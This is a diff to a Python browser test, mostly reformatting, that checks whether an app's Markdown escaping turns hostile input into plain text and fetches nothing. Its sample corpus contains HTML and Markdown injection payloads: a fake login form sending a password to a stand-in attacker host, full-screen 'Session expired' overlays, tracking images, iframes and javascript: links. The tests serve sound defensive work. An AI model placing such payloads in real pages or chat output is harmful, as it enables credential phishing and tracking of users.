@@ -13,15 +13,16 @@ import random
 import re
 
 import pytest
+from servers import browser_page, free_port
 
 from alignstudio.ui.render import escape_markdown_html
-from servers import browser_page, free_port
 
 pytestmark = pytest.mark.browser
 
 EVIL = "attacker.example"  # every resource in the corpus is on this host (or 198.51.100.7): none may be asked for
-FORM = (f'<form action="http://{EVIL}/steal" method="post"><input type="password" name="pw"><button>Log in</button>'
-        "</form>")
+FORM = (
+    f'<form action="http://{EVIL}/steal" method="post"><input type="password" name="pw"><button>Log in</button></form>'
+)
 OVERLAY = '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Session expired</div>'
 
 # (text, what the user must see of it as text)
@@ -29,7 +30,7 @@ CORPUS = [
     ("\\`" + FORM, '<input type="password" name="pw">'),  # the reported hole: an escaped backtick
     ("\\`" + OVERLAY + "`", "position:fixed"),
     ("\\\\`<img src=http://attacker.example/after-escaped-backslash.png>`", "after-escaped-backslash.png"),
-    ("`code` then \\` <img src=\"http://attacker.example/after-code.png\"> `", "after-code.png"),
+    ('`code` then \\` <img src="http://attacker.example/after-code.png"> `', "after-code.png"),
     ("``double `` <img src=http://attacker.example/double.png>`` tail", "double.png"),
     ("`` ` `` <b>x</b> ``<img src=http://attacker.example/mixed.png>``", "mixed.png"),
     (f'<img src="http://{EVIL}/pixel.png" style="position:fixed;top:0">', "pixel.png"),
@@ -37,11 +38,15 @@ CORPUS = [
     (f'![a][img]\n\n[img]: http://{EVIL}/ref-image.png "t"', "ref-image.png"),
     (f"[click here](http://{EVIL}/phish) and [ref][r] and [r]\n\n[r]: http://{EVIL}/ref", "click here"),
     (f"<http://{EVIL}/autolink> www.{EVIL}/w and mail@{EVIL} and https://{EVIL}/bare", f"https://{EVIL}/bare"),
-    (f"```\ncode <img src=http://{EVIL}/in-fence.png>\n```\n<img src=http://{EVIL}/after-fence.png>",
-     "after-fence.png"),
-    (f"~~~\n<form>\n~~~\n<iframe src=\"http://{EVIL}/frame\"></iframe>", "<iframe"),
-    (f"````\n```\n<img src=http://{EVIL}/nested.png>\n```\n````\n![x](http://{EVIL}/after-nested.png)",
-     "after-nested.png"),
+    (
+        f"```\ncode <img src=http://{EVIL}/in-fence.png>\n```\n<img src=http://{EVIL}/after-fence.png>",
+        "after-fence.png",
+    ),
+    (f'~~~\n<form>\n~~~\n<iframe src="http://{EVIL}/frame"></iframe>', "<iframe"),
+    (
+        f"````\n```\n<img src=http://{EVIL}/nested.png>\n```\n````\n![x](http://{EVIL}/after-nested.png)",
+        "after-nested.png",
+    ),
     (f"```\nunterminated <img src=http://{EVIL}/unterminated.png>\n\n![x](http://{EVIL}/u2.png)", "u2.png"),
     ("  ```js\n  let a = '<svg onload=alert(1)>'; // &lt; &amp; $$x$$ 50%%\n  ```\n" + OVERLAY, "Session expired"),
     (f"<div>\n\n*markdown in an HTML block* <a href=http://{EVIL}>a</a>\n\n</div>", "markdown in an HTML block"),
@@ -56,9 +61,11 @@ CORPUS = [
     (f"%%%LATEX_BLOCK_0%%% <img src=http://{EVIL}/placeholder.png>", "%%%LATEX_BLOCK_0%%%"),  # Gradio's LaTeX mark
     ('<a href="javascript:alert(1)">js</a> <details open><summary>s</summary>d</details>', "<details open>"),
     (f"para\n\nplain\n\n    indented <img src=http://{EVIL}/indented.png>\n\n\tx", "indented"),
-    (f"<iframe srcdoc=\"<img src=http://{EVIL}/srcdoc.png>\"></iframe><video src=http://198.51.100.7/v autoplay>",
-     "srcdoc"),
-    ("<p style=\"position:absolute;left:0\">abs</p><span class=\"fixed inset-0\">c</span>", "position:absolute"),
+    (
+        f'<iframe srcdoc="<img src=http://{EVIL}/srcdoc.png>"></iframe><video src=http://198.51.100.7/v autoplay>',
+        "srcdoc",
+    ),
+    ('<p style="position:absolute;left:0">abs</p><span class="fixed inset-0">c</span>', "position:absolute"),
     ("line one\\\nline two  \nline three\r\nwindows", "line two"),
     ("<!-- comment --><![CDATA[x]]><?php x ?><x-tag>t</x-tag>", "<x-tag>"),
     (f"[![img](http://{EVIL}/linked.png)](http://{EVIL}/l) \\[not a link\\](x)", "linked.png"),
@@ -67,11 +74,58 @@ CORPUS = [
 ]
 
 # pieces that open, close or mean something, mixed at random (seeded: the same strings every run)
-PIECES = ["`", "``", "```", "~~~", "\\", "\\`", "[", "]", "(", ")", "!", "$$", "$", "*", "_", "~~", "\n", "\n\n",
-          "    ", "1. ", "- ", "# ", "> ", "|", "---", "<", ">", "&", "&lt;", "&#60;", ":", "%%%LATEX_BLOCK_0%%%",
-          "mermaid", " x ", f"http://{EVIL}/r.png", f"www.{EVIL}", f"a@{EVIL}", f"<img src=http://{EVIL}/i.png>",
-          f"![i](http://{EVIL}/m.png)", f"](http://{EVIL}/p.png)", "<div style=\"position:fixed\">", "</div>",
-          "<form>", "<input>", "<b>", "\t", "\r\n", "\"", "'", f"[r]: http://{EVIL}/def.png"]
+PIECES = [
+    "`",
+    "``",
+    "```",
+    "~~~",
+    "\\",
+    "\\`",
+    "[",
+    "]",
+    "(",
+    ")",
+    "!",
+    "$$",
+    "$",
+    "*",
+    "_",
+    "~~",
+    "\n",
+    "\n\n",
+    "    ",
+    "1. ",
+    "- ",
+    "# ",
+    "> ",
+    "|",
+    "---",
+    "<",
+    ">",
+    "&",
+    "&lt;",
+    "&#60;",
+    ":",
+    "%%%LATEX_BLOCK_0%%%",
+    "mermaid",
+    " x ",
+    f"http://{EVIL}/r.png",
+    f"www.{EVIL}",
+    f"a@{EVIL}",
+    f"<img src=http://{EVIL}/i.png>",
+    f"![i](http://{EVIL}/m.png)",
+    f"](http://{EVIL}/p.png)",
+    '<div style="position:fixed">',
+    "</div>",
+    "<form>",
+    "<input>",
+    "<b>",
+    "\t",
+    "\r\n",
+    '"',
+    "'",
+    f"[r]: http://{EVIL}/def.png",
+]
 
 
 def _mixture(seed: int) -> str:
@@ -83,9 +137,9 @@ FUZZ = [_mixture(seed) for seed in range(150)]
 
 ALLOWED = {"P", "BR", "CODE", "PRE"}
 # every element under a rendered text that is not plain text, code or a line break; and any attribute
-FORBIDDEN_JS = """roots => roots.map(root => Array.from(root.querySelectorAll('*'))
-    .filter(e => !%s.includes(e.tagName) || e.attributes.length > 0)
-    .map(e => e.outerHTML.slice(0, 160)))""" % sorted(ALLOWED)
+FORBIDDEN_JS = f"""roots => roots.map(root => Array.from(root.querySelectorAll('*'))
+    .filter(e => !{sorted(ALLOWED)}.includes(e.tagName) || e.attributes.length > 0)
+    .map(e => e.outerHTML.slice(0, 160)))"""
 
 
 @pytest.fixture(scope="module")
@@ -99,8 +153,12 @@ def app_url():
             gr.Markdown(escape_markdown_html(text), elem_id=f"md-{index}")  # as label.py's gr.Markdown(elem_id=)
         for index, (text, _) in enumerate(CORPUS):  # after text the tab writes itself, which may hold $$ or `
             gr.Markdown(f"Prompt ($$ set ` [x]\n\n{escape_markdown_html(text)}", elem_id=f"md-{len(texts) + index}")
-        gr.Chatbot([{"role": "assistant", "content": escape_markdown_html(text)} for text, _ in CORPUS],
-                   label="Model A", height=380, elem_id="chat")  # as arena.py builds its two chat windows
+        gr.Chatbot(
+            [{"role": "assistant", "content": escape_markdown_html(text)} for text, _ in CORPUS],
+            label="Model A",
+            height=380,
+            elem_id="chat",
+        )  # as arena.py builds its two chat windows
     port = free_port()
     demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True)
     try:
@@ -112,8 +170,11 @@ def app_url():
 def _rendered(page, count: int) -> None:
     """Wait until every Markdown shows its text and the Chatbot its messages, then for the renderers that
     load later (LaTeX, diagrams, images)."""
-    page.wait_for_function(f"document.querySelectorAll('[id^=md-] span.md').length === {count} && "
-                           f"document.querySelectorAll('#chat span.md').length === {len(CORPUS)}", timeout=90_000)
+    page.wait_for_function(
+        f"document.querySelectorAll('[id^=md-] span.md').length === {count} && "
+        f"document.querySelectorAll('#chat span.md').length === {len(CORPUS)}",
+        timeout=90_000,
+    )
     page.wait_for_timeout(2_000)
 
 
@@ -125,8 +186,12 @@ def test_hostile_markdown_shows_as_text_and_fetches_nothing(app_url):
     url, count = app_url
     with browser_page() as page:
         fetched = []
-        page.on("request", lambda request: fetched.append(request.url)
-                if EVIL in request.url or "198.51.100.7" in request.url else None)
+        page.on(
+            "request",
+            lambda request: (
+                fetched.append(request.url) if EVIL in request.url or "198.51.100.7" in request.url else None
+            ),
+        )
         page.goto(url)
         _rendered(page, count)
         markdowns = page.eval_on_selector_all("[id^=md-] span.md", FORBIDDEN_JS)
